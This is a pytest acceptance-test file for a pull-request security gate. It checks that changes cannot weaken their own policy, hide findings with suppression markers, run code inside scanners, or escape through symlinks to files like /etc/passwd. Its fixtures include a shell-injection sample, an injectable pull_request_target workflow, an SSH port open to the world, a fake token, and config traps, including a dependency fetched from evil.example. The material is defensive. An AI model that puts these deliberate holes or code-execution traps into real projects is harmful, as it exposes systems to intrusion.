"""Acceptance tests 13 to 16: a change does not weaken its own gate, and code of the change runs in no privileged place."""

import json
import time
from pathlib import Path

import pytest

from prodready import suppressors
from prodready.world.disk import RAW_LIMIT
from programs import git
from pulls import PROFILE

pytestmark = pytest.mark.integration

SHELL = "import subprocess\nsubprocess.call('ls ' + input(), shell=True)\n"
HIDDEN = SHELL.replace("shell=True)", "shell=True)  # nosec")


def item(check, **params):
    return f"      - id: own.item\n        title: An item\n        check: {check}\n        params: {json.dumps(params)}\n        required: true\n"


CODE = item("code_security")


def told(gated, item_id="own.item"):
    return next(item for item in gated.report["items"] if item["id"] == item_id)


def signed(pull, account=11):
    """A maintainer approves the head."""
    pull.github.reviews[:] = [pull.review("APPROVED", account=account)]


# 13


@pytest.mark.parametrize(
    "change",
    [
        {".prodready.yml": "extends: profile.yml\npass_mark: 1\nitems: {docs.readme: {off: not today}}\n"},
        {"profile.yml": PROFILE.replace("required: true", "required: false").replace("pass_mark: 80", "pass_mark: 1")},
        {".prodready.yml": None},
        {".prodready.yml": None, "profile.yml": None},
    ],
)
def test_13_a_change_that_lowers_or_deletes_the_policy_is_judged_by_the_base_and_that_is_told(pull, change):
    pull.base().change({"README.md": "nothing\n", **change})
    gated = pull.gate()
    assert (1, "failed") == (gated.code, told(gated, "docs.readme")["status"])
    assert any(words in gated.told for words in ("this change weakens its gate", "the policy of this change is not valid"))


# 14: suppressors of the scanners that we run ourselves


def test_14_bandit_what_a_new_nosec_hides_is_still_counted_and_listed_as_newly_suppressed(pull):
    pull.base({"profile.yml": PROFILE + CODE}).change({"run.py": HIDDEN})
    gated = pull.gate()
    (finding,) = [finding for finding in told(gated)["findings"] if finding["newly"]]
    assert (1, "failed", "B602", "# nosec", "") == (gated.code, told(gated)["status"], finding["rule"], finding["newly"], finding["suppressed"])
    assert "newly suppressed here 1" in gated.told
    assert "run.py:2 # nosec (bandit)" in gated.told


def test_14_what_the_base_hides_already_stays_hidden_and_is_shown_with_its_age(pull, monkeypatch):
    monkeypatch.setenv("GIT_COMMITTER_DATE", f"{int(time.time()) - 412 * 86400} +0000")
    pull.base({"profile.yml": PROFILE + CODE, "run.py": HIDDEN})
    monkeypatch.delenv("GIT_COMMITTER_DATE")
    pull.change({"desk.py": "x = 2\n"})
    gated = pull.gate()
    assert (0, "passed") == (gated.code, told(gated)["status"]), gated.out
    assert "suppressed on base 1 (oldest 412 d) · newly suppressed here 0" in gated.told


def test_14_a_line_that_moves_keeps_what_the_base_said_and_a_second_marker_does_not(pull):
    pull.base({"profile.yml": PROFILE + CODE, "run.py": HIDDEN})
    pull.change({"run.py": f"# moved down\n\n{HIDDEN}subprocess.call(input(), shell=True)  # nosec\n"})
    findings = [finding for finding in told(pull.gate())["findings"] if finding["rule"] == "B602"]
    assert [("", "# nosec"), ("# nosec", "")] == [(finding["newly"], finding["suppressed"]) for finding in sorted(findings, key=lambda one: one["line"])]


def test_14_a_maintainer_who_signs_lets_it_be_hidden_and_the_report_says_so(pull):
    pull.base({"profile.yml": PROFILE + CODE}).change({"run.py": HIDDEN})
    signed(pull)
    gated = pull.gate()
    assert (0, "passed") == (gated.code, told(gated)["status"]), gated.out
    assert [("another maintainer", "a weaker gate", "")] == [(row["role"], row["about"], row["missing"]) for row in gated.report["signoffs"]]
    assert "# nosec, signed in this change" in {finding["suppressed"] for finding in told(gated)["findings"]}


def test_14_an_attribute_that_makes_the_file_look_binary_hides_nothing(pull):
    pull.base({"profile.yml": PROFILE + CODE}).change({"run.py": HIDDEN, ".gitattributes": "*.py -diff -text\n"})
    assert (1, "failed") == ((gated := pull.gate()).code, told(gated)["status"])


WORKFLOW = "on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ github.event.pull_request.title }}"
OPEN = """\
resource "aws_security_group" "open" {
  # checkov:skip=CKV_AWS_24: for the demo
  name = "open"
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
"""
OURS = {
    "bandit": ("code_security", {".bandit": "[bandit]\nskips: B602\n", "run.py": SHELL}),
    "zizmor": ("workflow_security", {".github/workflows/x.yml": f"{WORKFLOW} # zizmor: ignore[template-injection]\n", "zizmor.yml": "rules: {}\n"}),
    "checkov": ("iac", {
        "main.tf": OPEN, ".checkov.yaml": "skip-check: [CKV_AWS_24]\n",
    }),
    "hadolint": ("containers", {
        "Dockerfile": "# hadolint global ignore=DL3006\nFROM debian\n# hadolint ignore=DL3002\nUSER root\n", ".hadolint.yaml": "ignored: [DL3002]\n",
    }),
    "gitleaks": ("secrets", {
        "key.txt": "token = '" + "ghp_" + "x7Kq2mW9pL4vN8rT3yB6cF1hJ5sD0gAzQeUi" + "'  # gitleaks:allow\n", ".gitleaksignore": "key.txt:github-pat:1\n",
        ".gitleaks.toml": "[allowlist]\npaths = ['.*']\n",
    }),
}  # fmt: skip


@pytest.mark.parametrize("tool", OURS)
def test_14_files_and_markers_that_our_scanners_could_read_hide_nothing(pull, tool):
    check, files = OURS[tool]
    pull.base({"profile.yml": PROFILE + item(check)}).change(files)
    gated = pull.gate()
    assert "failed" == told(gated)["status"], gated.out
    assert 1 == gated.code
    assert f"({tool})" in gated.told


# 14: suppressors of tools whose reports are read

SARIF = {"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "TOOL", "rules": [{"id": "R1"}]}}, "results": []}]}
MARKERS = {
    "bandit": "# nosec", "checkov": "# checkov:skip=CKV_1: x", "pylint": "# pylint: disable=all", "mypy": "# type: ignore",
    "detect-secrets": "# pragma: allowlist secret", "gitleaks": "# gitleaks:allow", "trivy": "# trivy:ignore:AVD-1", "semgrep": "# nosemgrep",
    "ruff": "# noqa: F401", "flake8": "# noqa", "hadolint": "# hadolint ignore=DL3006", "kube-linter": "# ignore-check.kube-linter.io/x: y",
    "tfsec": "# tfsec:ignore:x", "zizmor": "# zizmor: ignore[x]", "pip-audit": "# --ignore-vuln X",
}  # fmt: skip
CONFIGS = {
    "bandit": ".bandit", "checkov": ".checkov.baseline", "pylint": ".pylintrc", "mypy": "mypy.ini", "detect-secrets": ".secrets.baseline",
    "gitleaks": ".gitleaksignore", "trivy": ".trivyignore", "grype": ".grype.yaml", "semgrep": ".semgrepignore", "ruff": "ruff.toml", "flake8": ".flake8",
    "hadolint": ".hadolint.yaml", "kube-linter": ".kube-linter.yaml", "tfsec": ".tfsec.yml", "safety": ".safety-policy.yml", "osv-scanner": "osv-scanner.toml",
    "zizmor": "zizmor.yml", "actionlint": ".github/actionlint.yaml",
}  # fmt: skip


def reported(pull, tool, change):
    """The gate on a report of that tool which its own job made, after the change."""
    pull.base({"profile.yml": PROFILE + item("tool_report", files=["out/*.sarif"]), ".gitignore": "out/\n"}).change(change)
    (pull.repo / "out").mkdir()
    sarif = json.loads(json.dumps(SARIF).replace("TOOL", tool))
    sarif["runs"][0]["artifacts"] = [{"location": {"uri": "desk.py"}}]
    (pull.repo / "out" / "x.sarif").write_text(json.dumps(sarif))
    return pull.gate()


@pytest.mark.parametrize("tool", MARKERS)
def test_14_a_marker_for_a_tool_whose_report_is_read_counts_until_it_is_signed(pull, tool):
    gated = reported(pull, tool, {"desk.py": f"x = 2  {MARKERS[tool]}\n"})
    (finding,) = told(gated)["findings"]
    assert (1, "failed", "desk.py", 1) == (gated.code, told(gated)["status"], finding["path"], finding["line"]), gated.out
    signed(pull)
    assert 0 == pull.gate().code


@pytest.mark.parametrize("tool", CONFIGS)
def test_14_a_file_of_a_tool_whose_report_is_read_counts_until_it_is_signed(pull, tool):
    gated = reported(pull, tool, {CONFIGS[tool]: "x\n"})
    assert (1, "failed", [CONFIGS[tool]]) == (gated.code, told(gated)["status"], [finding["path"] for finding in told(gated)["findings"]]), gated.out


def test_14_a_shared_file_counts_only_where_it_speaks_to_the_tool(pull):
    pull.base({"pyproject.toml": '[project]\nname = "desk"\n'})
    assert 0 == reported(pull, "ruff", {"pyproject.toml": '[project]\nname = "desk"\nversion = "2"\n'}).code


def test_14_another_tools_marker_does_not_concern_a_report(pull):
    assert 0 == reported(pull, "ruff", {"desk.py": "x = 2  # nosec\n"}).code


@pytest.mark.parametrize(
    ("path", "text"),
    [("desk.py", "x = 2  # pragma: no cover\n"), (".coveragerc", "[run]\nomit = *\n"), ("conftest.py", "x = 1\n"), ("test_x.py", "@pytest.mark.skip\n")],
)
def test_14_pytest_and_coverage_a_bound_that_holds_is_unknown_after_something_was_taken_out(pull, path, text):
    pull.base({"profile.yml": PROFILE + item("test_report", files=["out/junit.xml"]), ".gitignore": "out/\n"}).change({path: text})
    (pull.repo / "out").mkdir()
    (pull.repo / "out" / "junit.xml").write_text('<testsuite name="a" tests="1"><testcase classname="a" name="b"/></testsuite>')
    gated = pull.gate()
    assert (3, "unknown") == (gated.code, told(gated)["status"]), gated.out
    assert "hidden anew by this change" in told(gated)["summary"]


def test_14_every_tool_of_the_table_has_a_test():
    ours = {one.tool for one in suppressors.SILENCERS}
    assert {*MARKERS, *CONFIGS, *OURS, "pytest", "coverage"} <= ours


# 15


def test_15_no_scanner_runs_what_the_change_brings_along(pull):
    """The traps of pylint, mypy, checkov, pip-audit and of modules that shadow our own: each would leave a file behind."""
    trap = pull.folder / "trap"
    python = f"open({str(trap)!r}, 'w').write('x')\n"
    traps = {
        "yaml.py": python, "bandit.py": python, "sitecustomize.py": python, "json.py": python, "setup.py": python, "conftest.py": python, "plugin.py": python,
        ".pylintrc": f"[MASTER]\ninit-hook={python}", "mypy.ini": "[mypy]\nplugins = plugin.py\n", "checks/__init__.py": "", "checks/evil.py": python,
        ".checkov.yaml": "external-checks-dir: [checks]\n", "requirements.txt": "-e .\n./evil\nevil @ https://evil.example/evil.tar.gz\n",
        "evil/setup.py": python, "run.py": "x = 1\n", "main.tf": OPEN, ".pre-commit-config.yaml": "repos: []\n",
    }  # fmt: skip
    items = "".join(item(check).replace("own.item", f"own.{check.replace('_', '-')}") for check in ("code_security", "iac", "dependencies", "secrets"))
    pull.base({"profile.yml": PROFILE + items}).change(traps)
    gated = pull.gate("--offline")
    assert (False, 1) == (trap.exists(), gated.code), gated.out
    assert "unknown" == told(gated, "own.dependencies")["status"]


# 16


def test_16_what_was_not_read_is_said_and_never_taken_for_clean(pull, tmp_path):
    pull.base({"profile.yml": PROFILE + item("secrets", history="none")})
    secret = "\ntoken = '" + "ghp_" + "x7Kq2mW9pL4vN8rT3yB6cF1hJ5sD0gAzQeUi'\n"
    large = b"a line that says nothing\n" * (RAW_LIMIT // 25 + 1) + secret.encode()  # more than is read in one piece
    pull.change({"passwd": Path("/etc/passwd"), "wide.txt": secret.encode("utf-16"), "large.txt": large})
    gated = pull.gate()
    assert (1, "failed") == (gated.code, told(gated)["status"])
    assert "passwd is a symbolic link out of the gated folder" in gated.told
    found = {finding["path"] for finding in told(gated)["findings"]}
    gaps = {gap.partition(":")[0] for gap in told(gated)["gaps"]}
    assert ({"wide.txt", "large.txt"}, set()) == (found, gaps), gated.out


def test_16_a_submodule_is_not_followed_and_that_is_said(pull):
    pull.base().change()
    git(pull.repo, "update-index", "--add", "--cacheinfo", f"160000,{pull.head},vendored")
    git(pull.repo, "commit", "-q", "-m", "A submodule")
    pull.github.pulls[1] = git(pull.repo, "rev-parse", "HEAD")
    assert "vendored is a submodule" in pull.gate().told
